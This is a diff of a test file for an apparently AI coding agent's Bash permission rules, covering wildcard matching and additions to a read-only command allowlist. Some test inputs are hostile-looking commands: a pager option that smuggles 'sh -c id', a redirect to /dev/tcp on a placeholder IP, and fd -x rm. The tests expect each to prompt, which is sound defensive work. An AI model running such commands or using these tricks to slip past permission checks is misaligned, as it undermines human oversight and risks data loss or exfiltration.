@@ -121,8 +121,8 @@ describe('rule order and precedence (permissions → Manage permissions)', () =>
 
 describe('wildcards (permissions → Wildcard patterns, Bash)', () => {
   table([
-    { name: '6 Bash(ls *) does not match lsof', doc: `${P}Bash`, world: rules({ allow: ['Bash(ls *)'] }), call: 'lsof -i', decision: 'ask', layer: 'mode-default' },
-    { name: '7 Bash(ls*) matches lsof', doc: `${P}Bash`, world: rules({ allow: ['Bash(ls*)'] }), call: 'lsof -i', decision: 'allow', layer: 'allow-rules' },
+    { name: '6 Bash(ls *) does not match lsusb', doc: `${P}Bash`, world: rules({ allow: ['Bash(ls *)'] }), call: 'lsusb -v', decision: 'ask', layer: 'mode-default' },
+    { name: '7 Bash(ls*) matches lsusb', doc: `${P}Bash`, world: rules({ allow: ['Bash(ls*)'] }), call: 'lsusb -v', decision: 'allow', layer: 'allow-rules' },
     { name: '8 a trailing " *" matches the bare command', doc: `${P}Bash (word boundary: a space or end-of-string)`, world: rules({ allow: ['Bash(npm run test *)'] }), call: 'npm run test', decision: 'allow', layer: 'allow-rules' },
     { name: '9 a leading * matches any command ending with " install"', doc: `${P}Bash`, world: rules({ allow: ['Bash(* install)'] }), call: 'npm install', decision: 'allow', layer: 'allow-rules' },
     { name: '10 a middle * spans several arguments', doc: `${P}Bash`, world: rules({ allow: ['Bash(git * main)'] }), call: 'git push origin main', decision: 'allow', layer: 'allow-rules' },
@@ -479,5 +479,26 @@ describe('sixth pass: read-only commands reading outside the working directories
     { name: '253 an allow rule for the read runs it', doc: `${P}Read and Edit`, world: rules({ allow: ['Bash(cat /etc/hosts)'] }), call: 'cat /etc/hosts', decision: 'allow', layer: 'allow-rules' },
     { name: '254 cat /dev/null is not a read of a user file', doc: 'reading', world: none, call: 'cat /dev/null', decision: 'allow', layer: 'mode-default' },
     { name: '255 the auto mode reads it without the classifier', doc: `${PM}How the classifier evaluates actions (step 2); reading`, world: none, call: 'cat /etc/hosts', ctx: M('auto'), decision: 'allow', layer: 'mode-default', branches: false },
+  ]);
+});
+
+describe('seventh pass: the read-only allowlist as the changelog grew it', () => {
+  const none = fs();
+  const cl = 'changelog (bash auto-approval allowlist additions)';
+  table([
+    { name: '256 lsof runs', doc: cl, world: none, call: 'lsof -i :3000', decision: 'allow', layer: 'mode-default' },
+    { name: '257 pgrep runs', doc: cl, world: none, call: 'pgrep -f node', decision: 'allow', layer: 'mode-default' },
+    { name: '258 seq and expr run', doc: cl, world: none, call: 'seq 1 10 && expr 1 + 2', decision: 'allow', layer: 'mode-default' },
+    { name: '259 test runs', doc: cl, world: none, call: 'test -f package.json', decision: 'allow', layer: 'mode-default' },
+    { name: '260 cmp and comm run', doc: cl, world: none, call: 'cmp a b; comm a b', decision: 'allow', layer: 'mode-default' },
+    { name: '261 fd runs', doc: cl, world: none, call: "fd -e ts", decision: 'allow', layer: 'mode-default' },
+    { name: '262 fd -x runs a command: prompts', doc: `${cl}; reading: fd --exec`, world: none, call: 'fd -e ts -x rm', decision: 'ask', layer: 'mode-default' },
+    { name: '263 ss runs; ss -K prompts', doc: `${cl}; reading: ss --kill`, world: none, call: 'ss -K dst 1.2.3.4', decision: 'ask', layer: 'mode-default' },
+    { name: '264 man runs', doc: 'changelog (help and man with unsafe options no longer auto-approved)', world: none, call: 'man ls', decision: 'allow', layer: 'mode-default' },
+    { name: '265 man -P runs a pager program: prompts', doc: 'changelog (help and man with unsafe options)', world: none, call: "man -P 'sh -c id' ls", decision: 'ask', layer: 'mode-default' },
+    { name: '266 a deny rule still blocks an allowlisted command', doc: `${P}Read-only commands (add an ask or deny rule)`, world: rules({ deny: ['Bash(lsof *)'] }), call: 'lsof -i', decision: 'deny', layer: 'deny-rules' },
+    { name: '267 an unsafe variable before an allowlisted command prompts', doc: 'changelog (read-only commands with env-var prefixes prompt unless the var is known-safe)', world: none, call: 'PAGER=x seq 3', decision: 'ask', layer: 'mode-default' },
+    { name: '268 a known-safe variable before one runs', doc: 'changelog (LANG, TZ, NO_COLOR known-safe)', world: none, call: 'TZ=UTC seq 3', decision: 'allow', layer: 'mode-default' },
+    { name: '269 a redirect to /dev/tcp prompts', doc: 'changelog (redirects to /dev/tcp/... now prompt)', world: none, call: 'echo x > /dev/tcp/1.2.3.4/80', ctx: M('acceptEdits'), decision: 'ask', layer: 'mode-default' },
   ]);
 });
